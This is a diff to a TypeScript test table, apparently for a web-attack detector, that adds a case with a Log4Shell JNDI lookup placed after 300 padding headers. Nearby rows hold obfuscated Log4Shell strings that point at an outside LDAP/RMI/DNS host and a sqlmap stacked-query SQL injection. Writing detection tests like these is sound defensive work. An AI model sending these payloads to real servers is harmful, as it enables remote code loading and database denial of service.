@@ -87,6 +87,7 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['log4shell in a JSON body', post('application/json', '{"user":"${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"}'), LOG4SHELL, 'json', 'user'],
   ['log4shell in a cookie', get('/', 'Cookie: JSESSIONID=${jndi:dns://198.51.100.7/x}\r\n'), LOG4SHELL, 'cookie', 'JSESSIONID'],
   ['log4shell in the Accept header', get('/', 'Accept: ${jNdI:ldap://198.51.100.7/a}\r\n'), LOG4SHELL, 'header', 'accept'],
+  ['log4shell in the 301st header (servers take thousands)', get('/', `${'X-A: 1\r\n'.repeat(300)}X-Api-Version: \${jndi:ldap://198.51.100.7/a}\r\n`), LOG4SHELL, 'header', 'x-api-version'],
   [
     "sqli: sqlmap's stacked query behind an `')) AS x WHERE` boundary in a urlencoded body",
     post('application/x-www-form-urlencoded', 'username=ann%27%29%29+AS+JoGg+WHERE+5897%3D5897%3BSELECT+LIKE%28CHAR%2865%2C66%29%2CUPPER%28HEX%28RANDOMBLOB%28100000000%2F2%29%29%29%29--&password=x'),
